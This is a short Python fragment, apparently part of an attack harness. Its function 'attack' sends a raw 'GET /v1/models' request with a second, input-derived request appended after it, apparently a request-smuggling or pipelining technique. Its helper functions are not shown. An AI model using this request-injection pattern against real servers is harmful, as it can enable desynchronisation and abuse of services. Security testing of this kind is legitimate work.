# include: ask.py
def attack(inputs):
    first = f"GET /v1/models HTTP/1.1\r\nHost: {PLACE.netloc}\r\n\r\n"
    send(first + request(inputs["mark"]))
    return asked(inputs["mark"])
